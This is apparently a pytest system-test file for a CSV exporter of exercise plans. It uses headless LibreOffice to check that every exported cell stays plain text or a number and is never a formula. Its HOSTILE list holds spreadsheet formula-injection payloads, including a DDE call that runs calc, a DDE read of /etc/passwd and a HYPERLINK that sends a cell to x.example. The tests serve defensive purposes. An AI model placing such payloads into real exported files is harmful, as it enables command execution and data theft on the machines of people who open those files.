"""The table opened by LibreOffice: every cell, numbers as numbers, dates as dates, and nothing that is run."""

import csv
import os
import shutil
import subprocess
from collections.abc import Iterator
from dataclasses import replace
from io import StringIO
from pathlib import Path
from xml.etree import ElementTree as ET

import pytest
from tests.system.conftest import Cli

from glutemed.engine.planner import make_plan
from glutemed.loading.catalog import load_catalog
from glutemed.model.catalog import Catalog
from glutemed.model.exercise import KIT_SETS
from glutemed.model.plan import Block, Plan, Request, Session
from glutemed.rendering.items import HEAD, plan_to_csv

NUMBERS = ("week", "session", "day", "minutes", "number", "sets", "repetitions", "seconds", "rest_seconds")
OFFICE = "{urn:oasis:names:tc:opendocument:xmlns:office:1.0}"
TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
TEXT = "{urn:oasis:names:tc:opendocument:xmlns:text:1.0}"
UTF8 = "CSV:44,34,76,1"
"""What the import dialog sets: comma, double quote, UTF-8, from line 1."""
UTF8_ANY = "CSV:44/59/9,34,76,1"
"""The same with commas, semicolons and tabs, which the dialog offers together."""
HOSTILE = (
    "=1+1",
    "+1",
    "-1+2",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",  # noqa: RUF001  # full-width: East Asian spreadsheets take it
    '=cmd|"/C calc"!A0',
    '=DDE("soffice";"/etc/passwd";"A1")',
    '=HYPERLINK("http://x.example/?"&A1,"here")',
    "a;=1+1",
    "a,=1+1",
    'a";"=1+1',
    'a"\n=1+1,"b',
    "two\nlines",
    'say "x", then; go',
    "é ≤ 深蹲 👩‍⚕️ ½",
    "'",
    "''=1",
)


@pytest.fixture(scope="module")
def catalog() -> Catalog:
    return load_catalog()


class Opened:
    """LibreOffice with a profile of its own, in an environment that says nothing of a language."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        self.program = shutil.which("soffice")
        assert self.program, "these tests need LibreOffice: apt-get install libreoffice-calc"

    def __call__(self, file: Path, filter: str | None) -> list[list[str | float]]:
        """Return the cells of a CSV file that is opened, row by row; what is a formula makes it fail."""
        profile = f"-env:UserInstallation={(self.folder / 'profile').as_uri()}"
        command = [str(self.program), profile, "--headless", "--convert-to", "fods", "--outdir", str(self.folder)]
        environment = {"PATH": os.environ["PATH"], "HOME": str(self.folder)}
        done = subprocess.run(
            [*command, *([f"--infilter={filter}"] if filter else []), str(file)],
            env=environment,
            capture_output=True,
            check=True,
            text=True,
            timeout=120,
        )
        sheet = self.folder / f"{file.stem}.fods"
        assert sheet.exists(), done.stderr
        return list(self.rows(ET.parse(sheet).getroot()))  # LibreOffice wrote it

    def rows(self, root: ET.Element) -> Iterator[list[str | float]]:
        (table,) = root.iter(f"{TABLE}table")
        for row in table.iter(f"{TABLE}table-row"):
            cells: list[str | float] = []
            for cell in row.iter(f"{TABLE}table-cell"):
                assert f"{TABLE}formula" not in cell.attrib
                cells += [self.value(cell)] * int(cell.get(f"{TABLE}number-columns-repeated", "1"))
            while cells and cells[-1] == "":
                cells.pop()
            if cells:
                yield cells + [""] * (len(HEAD) - len(cells))

    def value(self, cell: ET.Element) -> str | float:
        kind = cell.get(f"{OFFICE}value-type")
        if kind == "float":
            return float(cell.get(f"{OFFICE}value", ""))
        if kind == "date":
            return f"date {cell.get(f'{OFFICE}date-value')}"
        assert kind in {None, "string"}
        return "\n".join("".join(self.texts(line)) for line in cell.iter(f"{TEXT}p"))

    def texts(self, line: ET.Element) -> Iterator[str]:
        for part in line.iter():
            if part.tag == f"{TEXT}s":
                yield " " * int(part.get(f"{TEXT}c", "1"))
            elif part.tag == f"{TEXT}tab":
                yield "\t"
            if part is line or part.tag == f"{TEXT}span":
                yield part.text or ""
            if part is not line:
                yield part.tail or ""


@pytest.fixture
def opened(tmp_path: Path) -> Opened:
    return Opened(tmp_path)


def expected(text: str) -> list[list[str | float]]:
    """Return what a spreadsheet has to show of a CSV: numbers, dates, and all else as text."""
    rows = csv.DictReader(StringIO(text, newline=""))
    return [list(HEAD), *([shown(name, row[name]) for name in HEAD] for row in rows)]


def shown(column: str, text: str) -> str | float:
    if text and column in NUMBERS:
        return float(text)
    return f"date {text}" if text and column == "date" else text.replace("\r", "\n")


@pytest.mark.parametrize(
    "asked",
    [
        ("--goal", "prevention", "--weeks", "4", "--start", "2026-12-01"),
        ("--goal", "rehab", "--stage", "mid", "--condition", "gluteal-tendinopathy", "--side", "left", "--weeks", "2"),
    ],
)
@pytest.mark.parametrize("filter", [None, UTF8, UTF8_ANY])
def test_every_cell_of_a_plan_is_opened_as_it_is(
    glutemed: Cli, opened: Opened, tmp_path: Path, asked: tuple[str, ...], filter: str | None
) -> None:
    """Without any setting too: what glutemed itself says is ASCII."""
    file = tmp_path / "plan.csv"
    glutemed("plan", *asked, "-o", file)
    text = file.read_bytes().decode("ascii")
    cells = expected(text)
    assert len(cells) > 10
    assert opened(file, filter) == cells


def hostile_plan(catalog: Catalog) -> Plan:
    """Return a plan whose every text of one's own is one of HOSTILE."""
    made = make_plan(catalog, Request(goal="prevention", days=2, equipment=dict(KIT_SETS)["home"], start="2026-12-01"))
    session, item = made.weeks[0].sessions[0], made.weeks[0].sessions[0].items("main")[0]
    items = tuple(
        replace(
            item,
            name=evil,
            variant=evil,
            effort=evil,
            range=evil,
            support=evil,
            track=evil,
            target=evil,
            load=replace(item.load, where=evil, start=evil),
            kit=(evil, "band"),
        )
        for evil in HOSTILE
    )
    day: Session = replace(session, blocks=(Block(kind="main", items=items),))
    return replace(made, weeks=(replace(made.weeks[0], sessions=(day,), go_on_if=HOSTILE[0]),))


@pytest.mark.parametrize("filter", [UTF8, UTF8_ANY])
def test_hostile_texts_stay_text_in_their_cells(catalog: Catalog, opened: Opened, tmp_path: Path, filter: str) -> None:
    text = plan_to_csv(catalog, hostile_plan(catalog))
    file = tmp_path / "hostile.csv"
    file.write_bytes(text.encode())
    cells = opened(file, filter)
    assert len(cells) == 1 + len(HOSTILE)
    assert cells == expected(text)


def test_a_formula_would_be_seen(opened: Opened, tmp_path: Path) -> None:
    """Without the apostrophe it is run, and a number of a text: what the tests above would not let pass."""
    file = tmp_path / "bad.csv"
    file.write_text("week\r\n=1+1\r\n")
    with pytest.raises(AssertionError, match="formula"):
        opened(file, UTF8)
    file.write_text("week\r\n+1\r\n")
    assert opened(file, UTF8)[1][0] == 1.0
